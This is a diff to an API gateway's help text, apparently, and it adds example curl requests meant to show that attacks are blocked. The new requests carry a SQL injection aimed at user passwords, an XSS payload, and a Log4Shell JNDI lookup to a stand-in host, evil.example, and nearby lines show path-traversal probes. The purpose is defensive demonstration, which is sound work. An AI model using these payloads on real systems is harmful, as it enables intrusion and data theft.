@@ -143,6 +143,9 @@ curl -i http://{g}/users/2\n  \
 curl -i http://{g}/products\n  \
 curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"Grace\"}}'\n\n\
 Attacks and mistakes are stopped (problem+json with a stable code):\n  \
+curl -i \"http://{g}/products?q=1%27%20UNION%20SELECT%20password%20FROM%20users--\"   # inspect.sqli\n  \
+curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"<img src=x onerror=alert(1)>\"}}'   # inspect.xss\n  \
+curl -i http://{g}/users/1 -H 'User-Agent: ${{jndi:ldap://evil.example/x}}'   # inspect.jndi\n  \
 curl -i http://{g}/internal/debug                          # route.not_found: undeclared endpoints don't exist\n  \
 curl -i --path-as-is 'http://{g}/users/%2e%2e/internal/debug'  # resolved to /internal/debug first: still not found\n  \
 curl -i --path-as-is 'http://{g}/users/..%2finternal/debug'    # admit.bad_path: ambiguous encodings are refused\n  \
